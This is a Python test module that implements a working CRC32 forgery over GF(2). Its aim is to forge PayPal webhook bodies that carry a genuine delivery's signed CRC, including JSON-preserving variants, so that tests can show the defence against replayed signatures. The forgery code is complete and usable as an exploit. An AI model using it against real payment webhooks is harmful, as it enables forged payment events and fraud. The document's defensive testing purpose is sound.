"""Forging a body with a chosen CRC32, the way an attacker would: a linear solve over GF(2).

PayPal signs ``transmission_id|transmission_time|webhook_id|crc32(body)``. Whoever holds one
genuine delivery (or only its headers and the CRC, which RSA signature recovery and a 2^32 search
give back) can attach the genuine headers to any body with the same CRC32. This module builds
such a body. It is test code: it shows the attack is real so the tests can show what stops it.

The maths
---------
Read a message of ``n`` bytes as a vector of ``8n`` bits over GF(2) (the field {0, 1} where
addition is XOR). zlib's CRC32 is, for a fixed length ``n``, an *affine* map::

    crc(m) = L_n(m) XOR c_n

``L_n`` is linear (the remainder of the bit polynomial modulo the CRC polynomial, bit-reflected),
and ``c_n`` comes from the initial value 0xFFFFFFFF and the final XOR, depending on ``n`` only.
So for two messages ``a``, ``b`` of equal length, ``crc(a XOR b) = crc(a) XOR crc(b) XOR crc(0^n)``.

Take a *template*: the body the attacker wants (another event id, type, amount), in which ``k``
positions are free. Position ``p_i`` may hold the template's byte ``t`` or ``t XOR d_i`` (for
example ``d_i = 0x01`` turns ``"0"`` into ``"1"``, so the free positions can sit in a JSON string
and the body stays valid JSON and ASCII). With ``x_i`` in {0, 1}, the body is::

    m(x) = t XOR  sum_i x_i * e_i         (e_i: d_i at position p_i, zeros elsewhere)

and, because the length never changes::

    crc(m(x)) = crc(t) XOR  sum_i x_i * (crc(t XOR e_i) XOR crc(t))

Each ``column_i = crc(t XOR e_i) XOR crc(t)`` is a 32-bit vector, so reaching a target CRC ``T``
is the linear system ``A x = crc(t) XOR T`` with ``A`` the 32 x k matrix of those columns:
Gaussian elimination over GF(2), 32 rows, no search. With 4 adjacent free *bytes* (32 free bits,
every ``d`` a single bit) ``A`` is always invertible, because the CRC polynomial has degree 32
and a non-zero term ``x^j`` times a polynomial of degree < 32 is never a multiple of it: exactly
one solution exists, whatever the target. With free bits scattered through a body ``A`` may
lack full rank, so :func:`forge` takes more than 32 (48 to 64) and any solution will do.
"""

from __future__ import annotations

import zlib
from collections.abc import Sequence
from dataclasses import dataclass

CRC_BITS = 32


def crc32(data: bytes) -> int:
    """zlib's CRC32 as PayPal uses it: unsigned."""
    return zlib.crc32(data) & 0xFFFFFFFF


@dataclass(frozen=True)
class FreeBit:
    """One unknown of the system: the byte at ``position`` may be XORed with ``delta``."""

    position: int
    delta: int


class NoSolution(Exception):
    """The free bits do not span the CRC difference (rank below 32 for this target)."""


def solve_gf2(columns: Sequence[int], target: int) -> list[int]:
    """``x`` in {0,1}^k with ``XOR of columns[i] for x[i] == 1`` equal to ``target``.

    Gaussian elimination on 32-bit rows: each column is a 32-bit vector; we keep a basis indexed
    by its leading bit, each basis vector remembering which columns it combines (as a bit mask).
    """
    basis: dict[int, tuple[int, int]] = {}  # leading bit -> (vector, mask of the columns in it)
    for index, column in enumerate(columns):
        vector, mask = column, 1 << index
        while vector:
            lead = vector.bit_length() - 1
            if lead not in basis:
                basis[lead] = (vector, mask)
                break
            other_vector, other_mask = basis[lead]
            vector, mask = vector ^ other_vector, mask ^ other_mask
    remainder, chosen = target, 0
    while remainder:
        lead = remainder.bit_length() - 1
        if lead not in basis:
            raise NoSolution()
        vector, mask = basis[lead]
        remainder, chosen = remainder ^ vector, chosen ^ mask
    return [(chosen >> index) & 1 for index in range(len(columns))]


def apply(template: bytes, free: Sequence[FreeBit], choice: Sequence[int]) -> bytes:
    body = bytearray(template)
    for bit, chosen in zip(free, choice, strict=True):
        if chosen:
            body[bit.position] ^= bit.delta
    return bytes(body)


def forge(template: bytes, free: Sequence[FreeBit], target_crc: int) -> bytes:
    """``template`` with some of its ``free`` bits flipped so that its CRC32 is ``target_crc``."""
    base = crc32(template)
    columns = [crc32(apply(template, [bit], [1])) ^ base for bit in free]
    return apply(template, free, solve_gf2(columns, base ^ target_crc))


def forge_with_pad_bytes(prefix: bytes, target_crc: int, suffix: bytes = b"") -> bytes:
    """``prefix + 4 solved bytes + suffix`` with CRC32 ``target_crc`` (always solvable)."""
    template = prefix + b"\x00\x00\x00\x00" + suffix
    free = [FreeBit(len(prefix) + byte, 1 << bit) for byte in range(4) for bit in range(8)]
    return forge(template, free, target_crc)


BINARY_MARKER = b"0" * 64
"""Put this in a JSON string of the template: each ``0`` may become ``1`` (64 free bits)."""


def forge_json(template: bytes, target_crc: int) -> bytes:
    """A template holding :data:`BINARY_MARKER` once, its marker turned into 0/1 digits so the
    CRC32 is ``target_crc``: still valid JSON, still ASCII."""
    start = template.index(BINARY_MARKER)
    assert template.count(BINARY_MARKER) == 1, "the marker must appear once"
    free = [FreeBit(start + offset, ord("0") ^ ord("1")) for offset in range(len(BINARY_MARKER))]
    return forge(template, free, target_crc)
